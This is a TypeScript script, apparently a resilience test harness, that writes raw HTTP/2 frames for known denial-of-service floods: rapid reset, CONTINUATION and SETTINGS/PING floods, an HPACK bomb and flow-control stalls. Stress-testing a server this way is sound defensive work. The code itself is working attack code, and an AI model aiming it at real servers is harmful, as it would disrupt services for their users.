// What clients of HTTP/2 can do to cost, as bytes on a socket (scripts/http2-floods.ts).

import type { Socket } from 'node:net'

export interface Attack {
  readonly connections: number
  /** When its first connection must have been cut, if not within the run. */
  readonly cutAfter?: number
  /** Begins on a connection; `beat` is called ten times a second. */
  flood(socket: Socket): { readonly beat?: () => void }
}

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
const [DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION] = [0, 1, 3, 4, 6, 8, 9]
const [END_STREAM, END_HEADERS] = [1, 4]
const ALL_STREAMS = 100
/** Bytes that are given to the socket at a time. */
const PIECE = 65_536
/** `write_timeout` and a while. */
const STALL_SECONDS = 75

function frame(kind = 0, flags = 0, stream = 0, payload: Uint8Array | string = ''): Buffer {
  const bytes = Buffer.from(payload)
  const head = Buffer.alloc(9)
  head.writeUIntBE(bytes.length, 0, 3)
  head[3] = kind
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, bytes])
}

/** A head by the static table and literals without an index. */
function block(path: string, method: 'GET' | 'POST' = 'GET'): Buffer {
  const first = Buffer.from([method === 'GET' ? 0x82 : 0x83, 0x86, 0x04, path.length])
  return Buffer.concat([first, Buffer.from(path), Buffer.from([0x01, 1, 0x78])])
}

function begin(socket: Socket, settings: Uint8Array = Buffer.alloc(0)): void {
  socket.write(Buffer.concat([Buffer.from(PREFACE), frame(SETTINGS, 0, 0, settings)]))
}

/** Sends what `next` gives as fast as the server takes it. */
function pour(socket: Socket, next: () => Buffer): void {
  const more = () => {
    while (!socket.destroyed && socket.write(next()));
  }
  socket.on('drain', more)
  socket.on('connect', more)
  socket.resume()
}

/** The same bytes again and again. */
function repeated(first: (socket: Socket) => void, bytes: Buffer): Attack['flood'] {
  const piece = Buffer.concat(Array(Math.ceil(PIECE / bytes.length)).fill(bytes))
  return (socket) => {
    first(socket)
    pour(socket, () => piece)
    return {}
  }
}

function flood(run: Attack['flood'], connections = 10): Attack {
  return { connections, flood: run }
}

const initialWindow = (bytes: number) => {
  const setting = Buffer.alloc(6)
  setting.writeUInt16BE(4, 0)
  setting.writeUInt32BE(bytes, 2)
  return setting
}

/** Asks for as much as one connection may, and opens no window; or all windows, and reads nothing. */
function stall(path: string, reads = true): Attack {
  return {
    connections: 10,
    cutAfter: STALL_SECONDS,
    flood(socket) {
      begin(socket, reads ? Buffer.alloc(0) : initialWindow(0x7fff_ffff))
      if (!reads) {
        const increment = Buffer.alloc(4)
        increment.writeUInt32BE(0x7fff_0000)
        socket.write(frame(WINDOW_UPDATE, 0, 0, increment))
      }
      for (let count = 0; count < ALL_STREAMS; count += 1) {
        socket.write(frame(HEADERS, END_STREAM | END_HEADERS, count * 2 + 1, block(path)))
      }
      if (reads) {
        socket.resume()
        return {}
      }
      // A client that does not read hears of no end, but of its writes.
      const beat = () => void socket.write(frame(PING, 1, 0, Buffer.alloc(8)))
      socket.on('connect', () => socket.pause())
      return { beat }
    },
  }
}

/** One field goes into the table and is named by a byte again and again. */
function bomb(): Buffer {
  const named = Buffer.concat([
    Buffer.from([0x40, 1, 0x78, 0x7f, 0x80 + 0x01, 0x1e]),
    Buffer.alloc(3_968, 'a'),
  ])
  return Buffer.concat([block('/'), named, Buffer.alloc(12_000, 0xbe)])
}

/** Requests on ever new streams. */
function requests(make: (stream: number) => Buffer): Attack['flood'] {
  return (socket) => {
    begin(socket)
    let stream = -1
    pour(socket, () => {
      const pieces: Buffer[] = []
      for (let size = 0; size < PIECE; ) {
        stream += 2
        const piece = make(stream)
        pieces.push(piece)
        size += piece.length
      }
      return Buffer.concat(pieces)
    })
    return {}
  }
}

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'rapid-reset': flood(
    requests((stream) =>
      Buffer.concat([
        frame(HEADERS, END_STREAM | END_HEADERS, stream, block('/')),
        frame(RESET, 0, stream, Buffer.from([0, 0, 0, 8])),
      ]),
    ),
  ),
  continuation: flood(
    repeated(
      (socket) => {
        begin(socket)
        socket.write(frame(HEADERS, END_STREAM, 1, block('/')))
      },
      frame(
        CONTINUATION,
        0,
        1,
        Buffer.concat([Buffer.from([0, 1, 0x78, 0x64]), Buffer.alloc(100, 'a')]),
      ),
    ),
  ),
  settings: flood(repeated((socket) => begin(socket), frame(SETTINGS))),
  ping: flood(repeated((socket) => begin(socket), frame(PING, 0, 0, Buffer.alloc(8)))),
  'empty-data': flood(
    repeated(
      (socket) => {
        begin(socket)
        socket.write(frame(HEADERS, END_HEADERS, 1, block('/', 'POST')))
      },
      frame(DATA, 0, 1),
    ),
  ),
  'hpack-bomb': flood(
    requests((stream) => frame(HEADERS, END_STREAM | END_HEADERS, stream, bomb())),
  ),
  'stall-shared': stall('/shared'),
  'stall-fresh': stall('/fresh'),
  'stall-later': stall('/later'),
  'stall-unread': stall('/fresh', false),
}
